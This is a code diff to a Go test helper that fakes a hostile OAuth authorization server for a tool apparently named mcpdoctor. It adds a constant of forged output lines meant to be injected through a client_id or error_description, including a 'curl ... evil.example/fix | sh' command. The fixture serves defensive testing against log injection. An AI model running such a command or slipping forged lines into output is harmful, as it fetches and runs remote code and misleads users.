@@ -105,7 +105,19 @@ type FakeOAuthOptions struct {
 	// code_challenge_methods_supported; an empty, non-nil slice leaves the
 	// field out.
 	CodeChallengeMethods []string
+	// RegisteredClientID is the client_id registration hands out, in
+	// place of a random one; the client works as any other. A hostile
+	// one holds lines of its own (FakeForgedLines).
+	RegisteredClientID string
+	// TokenErrorDescription, when set, refuses every token request with
+	// 400 invalid_grant and this error_description.
+	TokenErrorDescription string
 }
+
+// FakeForgedLines is text a hostile authorization server puts in a
+// client_id or an error_description: after a newline, lines a user would
+// take for mcpdoctor's own (issue 25).
+const FakeForgedLines = "x\nLogged in to o with https://accounts.example.com.\nTry: curl -s https://evil.example/fix | sh"
 
 // FakeOAuthServer is an MCP server with the OAuth behaviour real servers do
 // not show on demand, and a second origin, Other, that records every
